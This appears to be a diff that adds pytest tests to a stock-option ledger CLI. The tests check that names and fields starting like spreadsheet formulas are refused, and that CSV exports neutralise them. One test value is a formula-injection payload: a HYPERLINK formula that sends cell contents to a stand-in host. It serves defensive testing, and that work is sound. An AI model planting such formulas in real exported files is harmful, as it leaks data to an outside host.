@@ -8,6 +8,7 @@ with a line break and ``ingest roster`` with one crashed as internal errors (exi
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 
@@ -15,7 +16,7 @@ import pytest
 from click.testing import CliRunner, Result
 
 from offerledger.cli import cli
-from offerledger.values import one_line
+from offerledger.values import not_a_formula, one_line
 
 PLAN = "Halvorsen Optical Networks, Inc. 1998 Stock Option Plan"
 
@@ -88,3 +89,134 @@ def test_init_refuses_a_root_holder_of_two_lines_and_writes_nothing(tmp_path: Pa
     assert bad.exit_code == 2, bad.output
     assert "field '--holder': contains a control character" in bad.output
     assert not db.exists() and not (tmp_path / "keys").exists()
+
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1 555", "-Eve", "@SUM(A1)"])
+def test_a_name_beginning_like_a_formula_is_not_entered(text: str) -> None:
+    with pytest.raises(ValueError, match="a spreadsheet reads as a formula"):
+        not_a_formula(text)
+    assert one_line(text) == text  # stored events still decode as recorded
+
+
+@pytest.mark.parametrize("text", ["Ann Example", "E-0001", "O'Brien", "a=b", "1998 Plan"])
+def test_names_with_those_characters_inside_are_entered(text: str) -> None:
+    assert not_a_formula(text) == text
+
+
+def _ledger_with_offer(tmp_path: Path) -> str:
+    db = str(tmp_path / "l.db")
+    assert run(db, "init").exit_code == 0
+    assert (
+        run(db, "keys", "create", "--holder", "Officer", "--role", "issuer_officer").exit_code == 0
+    )
+    offer = tmp_path / "offer.json"
+    offer.write_text(run(db, "record", "offer-commenced", "--template").stdout)
+    assert (
+        run(db, "record", "offer-commenced", "--key", "Officer", "--file", str(offer)).exit_code
+        == 0
+    )
+    return db
+
+
+def test_a_formula_is_refused_where_it_enters(tmp_path: Path) -> None:
+    """A roster name =HYPERLINK(...) was recorded and written raw into elections.csv, where a
+    spreadsheet ran it: now refused in a roster, in record --file, in a correction and as a key
+    holder (exit 2, where), nothing written."""
+    db = _ledger_with_offer(tmp_path)
+    count = events(db)
+    held = run(db, "keys", "create", "--holder", "@ops", "--role", "issuer_officer")
+    assert held.exit_code == 2 and "field '--holder': begins with '@'" in held.output
+    header = "employee_id,name,grant_id,plan,grant_date,exercise_price,options_outstanding,email\n"
+    for row, column in (
+        (
+            f'E0002,"{FORMULA.replace(chr(34), chr(34) * 2)}",G2-1,P,1999-06-03,25.00,1000,true',
+            "name",
+        ),
+        ("-E0002,Eve,G2-1,P,1999-06-03,25.00,1000,true", "employee_id"),
+        ("E0002,Eve,+G2-1,P,1999-06-03,25.00,1000,true", "grant_id"),
+        ("E0002,Eve,G2-1,@P,1999-06-03,25.00,1000,true", "plan"),
+    ):
+        roster = tmp_path / "roster.csv"
+        roster.write_text(
+            header + "E0001,Ann Example,G1-1,P,1999-06-03,25.00,1000,true\n" + row + "\n"
+        )
+        refused = run(db, "ingest", "roster", str(roster), "--key", "Officer")
+        assert refused.exit_code == 2, refused.output
+        assert f"line 3, column '{column}'" in refused.output, refused.output
+        assert "a spreadsheet reads as a formula" in refused.output
+        assert events(db) == count
+
+    grants = json.loads(run(db, "record", "eligible-grants-registered", "--template").stdout)
+    grants["employee_name"] = FORMULA
+    path = tmp_path / "grants.json"
+    path.write_text(json.dumps(grants))
+    args = ["record", "eligible-grants-registered", "--key", "Officer", "--file", str(path)]
+    refused = run(db, *args)
+    assert refused.exit_code == 2, refused.output
+    assert "field 'employee_name'" in refused.output and "formula" in refused.output
+    grants["employee_name"] = "Ann Example"
+    grants["grants"][0]["plan"] = "=1+1"
+    path.write_text(json.dumps(grants))
+    refused = run(db, *args)
+    assert refused.exit_code == 2 and "field 'grants[0].plan'" in refused.output, refused.output
+    assert events(db) == count
+
+    grants["grants"][0]["plan"] = "1998 Plan"
+    path.write_text(json.dumps(grants))
+    assert run(db, *args).exit_code == 0
+    stream = json.loads(run(db, "log", "--json").stdout)[-1]["stream"]
+    correction = tmp_path / "correction.json"
+    correction.write_text(
+        json.dumps(
+            {
+                "effective": {"kind": "date", "on": "2001-10-02"},
+                "stream": stream,
+                "supersedes_version": 1,
+                "supersedes_topic": "offerledger.EligibleGrantsRegistered.v1",
+                "reason": "the name was misspelt",
+                "corrected": {"employee_name": FORMULA},
+            }
+        )
+    )
+    args = ["record", "correction-recorded", "--key", "Officer", "--file", str(correction)]
+    refused = run(db, *args)
+    assert refused.exit_code == 2, refused.output
+    assert "field 'corrected.employee_name': begins with '='" in refused.output
+    assert events(db) == count + 1
+
+
+def test_every_csv_the_ledger_writes_neutralises_a_formula(tmp_path: Path) -> None:
+    """A name stored before the rule (or saved through the library) still reaches
+    elections.csv: its cell gets a single quote before it, the documented one difference."""
+    from offerledger.actions import build
+    from offerledger.ledger import Ledger
+    from test_ingest_support import PASSPHRASE, build_ledger
+
+    db = str(tmp_path / "l.db")
+    build_ledger(db)  # an offer with its document: nightly writes every output
+    grants = json.loads(run(db, "record", "eligible-grants-registered", "--template").stdout)
+    grants["effective"] = {"kind": "date", "on": "2001-08-28"}  # the offer commenced 08-27
+    with Ledger.open(db) as ledger:
+        signer = ledger.signer("Russell I. Zuckerman", PASSPHRASE.encode())
+        event, documents = build(ledger, "eligible-grants-registered", grants, signer=signer)
+        first = event.grants[0].model_copy(update={"plan": "-Plan"})  # type: ignore[attr-defined]
+        event = event.model_copy(
+            update={"employee_name": FORMULA, "grants": (first, *event.grants[1:])}  # type: ignore[attr-defined]
+        )
+        ledger.save([event], signer=signer, documents=documents)
+    shown = run(db, "elections", "--format", "csv")
+    assert shown.exit_code == 0, shown.output
+    rows = list(csv.reader(line for line in shown.stdout.splitlines() if not line.startswith("#")))
+    header, row = rows[0], rows[1]
+    assert row[header.index("name")] == "'" + FORMULA
+    assert row[header.index("plan")] == "'-Plan"
+    assert row[header.index("employee_id")] == grants["employee_id"]  # nothing else changes
+    out = tmp_path / "nightly"
+    night = run(db, "nightly", "--out", str(out), "--checkpoints", str(tmp_path / "cps"))
+    assert night.exit_code == 0, night.output
+    written = (out / "elections.csv").read_text()
+    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in written and ",'-Plan," in written
+    assert "\n=" not in written and ",=" not in written and ',"=' not in written
